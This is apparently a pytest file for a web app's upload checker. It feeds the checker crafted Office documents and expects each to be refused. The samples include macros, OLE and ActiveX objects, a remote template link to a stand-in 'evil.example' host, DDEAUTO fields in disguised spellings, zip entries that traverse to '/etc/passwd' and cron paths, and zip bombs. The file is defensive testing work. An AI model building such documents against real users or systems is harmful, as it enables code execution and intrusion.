"""Office documents: no macros, programs, passwords and bombs."""

import os
import zipfile
from io import BytesIO

import pytest

from empiria.apps.system.uploads import check_upload
from tests.integration.system.files import WORD, archive, docx, odt, refusal, sent

RUNS = "The document holds macros, programs, objects of other programs or queries. Save it without them, or as a PDF."
UNUSUAL = "The document is packed in a way that office programs do not use. Open it and save it anew."

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def bound(kind: str) -> str:
    """To a part of the document itself."""
    return f'<Relationships><Relationship Id="1" Type="http://x/relationships/{kind}" Target="data.bin"/></Relationships>'


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("a.docx", docx({"word/vbaProject.bin": b"x"}), RUNS),
        ("a.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), RUNS),
        ("a.docx", docx({"word/activeX/activeX1.xml": b"x"}), RUNS),
        ("a.docx", docx({"word/embeddings/tabela.xlsm": b"x"}), RUNS),
        ("a.docx", docx({"word/faktura.exe": b"x"}), RUNS),
        ("a.docx", docx({"word/embeddings/data.bin": OLE + b"x"}), RUNS),
        ("a.docx", docx({"word/embeddings/data.bin": docx({"word/vbaProject.bin": b"x"})}), RUNS),
        ("a.docx", docx({"word/_rels/document.xml.rels": bound("oleObject")}), RUNS),
        ("a.docx", docx({"word/_rels/document.xml.rels": bound("aFChunk")}), RUNS),
        ("a.docx", docx({"word/header1.xml": "<w:hdr><w:altChunk/></w:hdr>"}), RUNS),
        ("a.docx", docx({"xl/_rels/workbook.xml.rels": bound("connections")}), RUNS),
        ("a.docx", docx({"xl/connections.xml": "<connections/>"}), RUNS),
        ("a.odt", odt({"Object 1": OLE}), RUNS),
        (
            "a.docx",
            docx(
                {
                    "word/_rels/settings.xml.rels": '<Relationship Type="http://x/relationships/attachedTemplate"'
                    ' Target="http://evil.example/t.dotm" TargetMode="External"/>'
                }
            ),
            RUNS,
        ),
        ("a.docx", docx({"word/_rels/settings.xml.rels": "macroEnabled".encode("utf-16")}), UNUSUAL),
        (
            "a.docx",
            docx({"word/embeddings/w.docx": docx({"word/vbaProject.bin": b"x"})}),
            RUNS,
        ),
        ("a.odt", odt({"Basic/Standard/Module1.xml": "<x/>"}), RUNS),
        ("a.odt", odt({"Scripts/python/x.py": "x"}), RUNS),
        ("a.odt", odt({"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
         "The document is protected by a password. Save it without one."),
        ("a.docx", docx({"../../etc/cron.d/x": b"x"}), UNUSUAL),
        ("a.docx", docx({"/etc/passwd": b"x"}), UNUSUAL),
        ("a.docx", docx({"C:/x": b"x"}), UNUSUAL),
        ("a.docx", docx({"WORD/document.xml": b"x"}), UNUSUAL),
        ("a.docx", docx({f"word/{number}.xml": b"" for number in range(5_001)}), UNUSUAL),
        ("a.docx", docx({"word/bomb.xml": bytes(20_000_000)}), UNUSUAL),
    ],
)  # fmt: skip
def test_an_office_file_with_something_in_it_is_refused(name: str, content: bytes, message: str) -> None:
    assert refusal(name, content) == message


ELSEWHERE = "Type='http://x/relationships/attachedTemplate' Target='http://evil.example/t.dotm'"


@pytest.mark.parametrize(
    ("part", "text"),
    [
        ("word/_rels/settings.xml.rels", f"<Relationship {ELSEWHERE} TargetMode='External'/>"),
        ("word/_rels/settings.xml.rels", f'<Relationship {ELSEWHERE} TargetMode = "External"/>'),
        ("word/_rels/settings.xml.rels", f'<Relationship {ELSEWHERE} TargetMode="&#69;xternal"/>'),
        ("word/document.xml", "<w:document><w:fldSimple w:instr='DDEAUTO c:\\\\x'/></w:document>"),
        (
            "word/document.xml",
            "<w:p><w:instrText>DDE</w:instrText><w:r/><w:instrText>AUTO c:</w:instrText></w:p>",
        ),
        ("word/header1.xml", "<w:hdr><w:instrText> dde x</w:instrText></w:hdr>"),
        ("[Content_Types].xml", (f'<Types><D ContentType="{WORD}.main+xml"/><D ContentType="application/'
         'vnd.ms-office.vba&#80;roject" PartName="/word/foo.bin"/></Types>')),
    ],
)  # fmt: skip
def test_no_spelling_of_the_same_thing_hides_it(part: str, text: str) -> None:
    parts = {"[Content_Types].xml": f'<Types><D ContentType="{WORD}.main+xml"/></Types>', part: text}
    assert refusal("a.docx", archive({"word/document.xml": "<w:document/>", **parts})) == RUNS


@pytest.mark.parametrize("text", ['<!DOCTYPE x [<!ENTITY e "y">]><x>&e;</x>', "<x>", "no element"])
def test_what_office_programs_never_write_is_refused(text: str) -> None:
    assert refusal("a.docx", docx({"word/settings.xml": text})) == UNUSUAL


def test_an_ordinary_document_with_links_and_fields_is_taken() -> None:
    content = docx(
        {
            "word/header1.xml": "<w:hdr><w:p><w:instrText> PAGE </w:instrText></w:p><w:t>DDE is a word</w:t></w:hdr>",
            "word/_rels/document.xml.rels": '<Relationship Type="http://x/relationships/hyperlink"'
            ' Target="https://www.miasta.pl" TargetMode="External"/>',
        }
    )
    assert check_upload(sent("a.docx", content)).content == content


def test_an_office_file_that_lies_about_its_parts_is_refused() -> None:
    content = bytearray(docx({"word/x.bin": os.urandom(5_000)}))
    # The list of contents says a shorter length than the part unpacks to.
    place = content.rindex(b"PK\x01\x02", 0, content.rindex(b"word/x.bin"))
    content[place + 24 : place + 28] = (10).to_bytes(4, "little")
    assert (
        refusal("a.docx", bytes(content))
        == "The document is damaged or not of the type that its ending says."
    )


def test_an_encrypted_part_is_refused() -> None:
    content = bytearray(docx())
    place = content.rindex(b"PK\x01\x02")
    content[place + 8] |= 1
    assert "password" in refusal("a.docx", bytes(content))


def test_an_embedded_table_without_macros_is_taken() -> None:
    inner = archive(
        {
            "[Content_Types].xml": '<Override ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/>'
        }
    )
    content = docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": inner})
    assert check_upload(sent("a.docx", content)).content == content


def test_archives_of_the_tests_are_archives() -> None:
    assert zipfile.is_zipfile(BytesIO(docx()))


@pytest.mark.parametrize("way", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_what_cannot_be_unpacked_step_by_step_is_refused(way: int) -> None:
    file = BytesIO(docx({}))
    with zipfile.ZipFile(file, "a") as packed:
        packed.writestr("word/a.xml", "<a/>", compress_type=way)
    assert refusal("a.docx", file.getvalue()) == UNUSUAL
